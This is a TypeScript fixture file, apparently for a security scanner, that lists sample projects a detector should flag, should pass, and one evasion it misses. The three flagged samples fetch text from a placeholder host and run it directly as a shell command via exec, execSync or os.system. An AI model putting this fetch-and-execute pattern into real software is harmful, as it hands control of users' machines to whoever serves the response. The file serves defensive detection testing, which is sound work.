import type { Examples } from "@doorward/core";

/** Programs that carry out what another computer sends, and programs that do not. */
export const examples: Examples = {
  hits: [
    {
      name: "a command that an answer holds",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js":
          'const { exec } = require("child_process");\n\nfetch("https://orders.example/next").then((answer) => answer.text()).then((text) => exec(text));\n',
      },
    },
    {
      name: "a command from a field of an answer",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js":
          'const axios = require("axios");\nconst { execSync } = require("child_process");\n\naxios.get("https://orders.example/next").then(({ data }) => execSync(data.command));\n',
      },
    },
    {
      name: "a program of Python that does so",
      files: {
        "main.py": 'import os\nimport requests\n\nos.system(requests.get("https://orders.example/next").text)\n',
      },
    },
  ],
  misses: [
    {
      name: "a plain command with a fetched argument",
      why: "The program that is started can be read.",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js":
          'const { execFileSync } = require("child_process");\n\nfetch("https://data.example/tag").then((answer) => answer.text()).then((tag) => execFileSync("git", ["checkout", tag]));\n',
      },
    },
    {
      name: "an answer that is shown",
      why: "Nothing that came is started.",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js": 'fetch("https://data.example/tag").then((answer) => answer.text()).then(console.log);\n',
      },
    },
    {
      name: "a command of the project",
      why: "It can be read where it stands.",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js": 'require("child_process").execSync("git status");\n',
      },
    },
  ],
  evasions: [
    {
      name: "orders over a file that another program fetches",
      caughtBy: "nothing",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js": 'console.log(require("fs").readFileSync("orders.txt", "utf8"));\n',
      },
    },
  ],
};
